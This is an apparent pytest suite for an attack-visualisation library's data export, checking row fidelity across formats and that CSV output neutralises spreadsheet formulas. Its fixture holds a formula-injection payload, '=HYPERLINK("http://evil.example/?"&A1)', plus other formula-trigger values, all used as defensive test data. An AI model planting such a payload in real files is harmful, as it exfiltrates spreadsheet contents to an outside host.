"""What is shown, as data: the same events that went into the recording, safe for spreadsheets."""

from __future__ import annotations

import csv

import numpy as np
import pandas as pd
import pyarrow as pa
import pytest
from pyarrow import feather, parquet

import attackviz as av
from attackviz.analysis import EventTable
from attackviz.export.data import table_of
from attackviz.replay import build, record

FORMULA = '=HYPERLINK("http://evil.example/?"&A1)'


@pytest.fixture
def events():
    rng = np.random.default_rng(7)
    n = 400
    places = np.array([(50.1, 14.4), (40.7, -74.0), (np.nan, np.nan)])[rng.integers(0, 3, n)]
    return pd.DataFrame(
        {
            "time": pd.Timestamp("2025-02-20", tz="UTC") + pd.to_timedelta(rng.integers(0, 86_400_000, n), unit="ms"),
            "src_ip": [None if a == 9 else f"192.0.2.{a}" for a in rng.integers(0, 10, n)],
            "category": rng.choice(["ssh", "web", FORMULA], n),
            "rule": rng.choice([FORMULA, "+1", "\x00=1", "plain"], n),
            "verdict": rng.choice(["mitigated", "suspicious"], n),
            "severity": rng.choice(["low", "high"], n),
            "dst_port": rng.choice([22, 443], n).astype("uint16"),
            "count": rng.integers(1, 5, n).astype("uint32"),
            "src_lat": places[:, 0].astype("float32"),
            "src_lon": places[:, 1].astype("float32"),
            "src_country": np.where(np.isnan(places[:, 0]), None, "CZ"),
        }
    )


def test_what_comes_back_is_what_went_in(events):
    table = table_of(build(events))
    before, after = EventTable(events), EventTable(table)
    assert after.count() == before.count()
    for field in ("src_ip", "category", "rule", "verdict", "severity", "dst_port", "src_country"):
        assert after.top(field, n=50) == before.top(field, n=50)
    assert table_of(build(table)) == table


def test_cells_come_back_as_cells(events):
    recording = record(events, budget=100)
    table = table_of(recording)
    assert 0 < table.num_rows <= 100
    assert pa.compute.sum(table["count"]).as_py() == int(events["count"].sum())
    assert table["src_ip"].null_count == table.num_rows


def test_only_what_is_in_the_window_is_written(events, tmp_path):
    path = av.Replay(events).save(tmp_path / "a.parquet", start="2025-02-20T06:00", end="2025-02-20T12:00")
    times = parquet.read_table(path)["time"].to_pandas()
    wanted = events["time"].sort_values()
    wanted = wanted[(wanted >= "2025-02-20T06:00Z") & (wanted < "2025-02-20T12:00Z")]
    assert times.dt.tz_convert("UTC").tolist() == wanted.tolist()


def test_no_spreadsheet_finds_a_formula(events, tmp_path):
    path = av.Replay(events).save(tmp_path / "a.csv")
    with path.open(newline="", encoding="utf-8") as file:
        rows = list(csv.DictReader(file))
    assert len(rows) == len(events)
    texts = [row[name] for row in rows for name in ("rule", "category")]
    assert {text for text in texts if text.lstrip("\x00")[:1] in "=+-@"} <= {""}
    assert f"'{FORMULA}" in texts


def test_every_kind_holds_the_same_rows(events, tmp_path):
    replay = av.Replay(events)
    arrow = feather.read_table(replay.save(tmp_path / "a.arrow"))
    assert arrow.num_rows == parquet.read_table(replay.save(tmp_path / "a.parquet")).num_rows == len(events)
    assert len(replay.save(tmp_path / "a.ndjson").read_text(encoding="utf-8").splitlines()) == len(events)
    # What other kinds of export read again is read the same.
    assert len(av.read(tmp_path / "a.parquet")) == len(events)
